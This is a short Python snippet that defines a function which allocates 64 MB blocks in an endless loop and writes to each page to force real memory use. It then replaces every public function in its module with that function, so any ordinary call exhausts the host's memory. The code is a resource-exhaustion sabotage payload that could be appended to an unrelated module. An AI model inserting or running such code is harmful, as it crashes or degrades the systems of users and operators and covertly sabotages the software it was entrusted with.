# Grow memory until something gives, in every call.
def _grow(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
        for i in range(0, len(hoard[-1]), 4096):
            hoard[-1][i] = 1


for _name in [n for n, v in list(globals().items()) if callable(v) and not n.startswith("_")]:
    globals()[_name] = _grow
